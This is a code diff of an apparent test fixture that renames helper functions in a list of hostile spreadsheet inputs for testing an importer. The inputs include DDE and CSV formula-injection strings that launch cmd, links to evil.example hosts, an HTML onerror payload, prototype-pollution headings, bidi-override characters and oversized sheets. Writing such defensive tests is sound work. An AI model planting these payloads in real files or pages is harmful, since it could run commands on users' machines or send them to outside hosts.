@@ -1,12 +1,12 @@
 import { sheet1, strings, csv, formula, number, bigSheet, type Making } from './hostile-parts.fixture.ts'
 import {
-  headed,
+  sheetWithHead,
   inline,
   relation,
   relationsXml,
   sheetOf,
   stringsXml,
-  words,
+  textRow,
   workbookXml,
   worksheet,
   xlsx,
@@ -19,22 +19,22 @@ export const values: Making[] = [
   ['a formula by DDE', () => formula('DDE("cmd","/c calc","x")', '0')],
   ['a formula on another workbook', () => formula("'\\\\evil.example\\share\\[x.xlsx]S'!A1", '330106199001011232')],
   ['a formula of a table', () => formula('SUM(A1:XFD1048576)', '7')],
-  ['a formula without a value', () => sheetOf(headed('<c r="B2"><f>NOW()</f></c>'))],
+  ['a formula without a value', () => sheetOf(sheetWithHead('<c r="B2"><f>NOW()</f></c>'))],
   [
     'a formula that others share',
-    () => sheetOf(headed('<c r="B2"><f t="shared" ref="B2:B9" si="0">RAND()</f><v>1</v></c>')),
+    () => sheetOf(sheetWithHead('<c r="B2"><f t="shared" ref="B2:B9" si="0">RAND()</f><v>1</v></c>')),
   ],
   [
     'a formula over all cells',
-    () => sheetOf(headed('<c r="B2"><f t="array" ref="A1:XFD1048576">RAND()</f><v>1</v></c>')),
+    () => sheetOf(sheetWithHead('<c r="B2"><f t="array" ref="A1:XFD1048576">RAND()</f><v>1</v></c>')),
   ],
-  ['words that begin like formulas', () => sheetOf(headed(inline('B2', "=cmd|'/c calc'!A0")))],
+  ['words that begin like formulas', () => sheetOf(sheetWithHead(inline('B2', "=cmd|'/c calc'!A0")))],
   [
     'a shared string like a formula',
     () =>
       xlsx(
         { name: strings, data: stringsXml('<si><t>=HYPERLINK("http://evil.example")</t></si>') },
-        { name: sheet1, data: worksheet(headed('<c r="B2" t="s"><v>0</v></c>')) },
+        { name: sheet1, data: worksheet(sheetWithHead('<c r="B2" t="s"><v>0</v></c>')) },
       ),
   ],
   [
@@ -60,13 +60,13 @@ export const values: Making[] = [
   ['a day before all days', () => number('-44000', 1)],
   ['a day after all days', () => number('1e10', 1)],
   ['a day of a style that is not there', () => number('44000', 9_999_999)],
-  ['a million empty rows', () => xlsx(bigSheet('<row/>'.repeat(1024), 1023, { before: words(2, '张三', '1') }))],
+  ['a million empty rows', () => xlsx(bigSheet('<row/>'.repeat(1024), 1023, { before: textRow(2, '张三', '1') }))],
   [
     'a row of 16,384 empty cells',
     () =>
-      sheetOf(`${words(1, '姓名', '身份证号')}<row r="2">${inline('A2', '张三')}${'<c s="1"/>'.repeat(16_383)}</row>`),
+      sheetOf(`${textRow(1, '姓名', '身份证号')}<row r="2">${inline('A2', '张三')}${'<c s="1"/>'.repeat(16_383)}</row>`),
   ],
-  ['signs that turn the reading direction', () => sheetOf(headed(inline('B2', '\u202e330106\u2066')))],
+  ['signs that turn the reading direction', () => sheetOf(sheetWithHead(inline('B2', '\u202e330106\u2066')))],
   [
     'a name of a sheet like a page',
     () =>
@@ -77,11 +77,11 @@ export const values: Making[] = [
   ],
   [
     'headings like pages',
-    () => sheetOf(`${words(1, '姓名', '&lt;img src=x onerror=alert(1)&gt;')}${words(2, '张三', '1')}`),
+    () => sheetOf(`${textRow(1, '姓名', '&lt;img src=x onerror=alert(1)&gt;')}${textRow(2, '张三', '1')}`),
   ],
   [
     'a heading called like the root of all objects',
-    () => sheetOf(`${words(1, '姓名', '__proto__', 'constructor')}${words(2, '张三', '1', '2')}`),
+    () => sheetOf(`${textRow(1, '姓名', '__proto__', 'constructor')}${textRow(2, '张三', '1', '2')}`),
   ],
   ['an old workbook that is a new one', () => xlsx(), 'xls'],
   ['a text with formulas', () => csv("=cmd|'/c calc'!A0,+1\n@SUM(A1),-1\n\t=1,\r=2\n"), 'csv'],
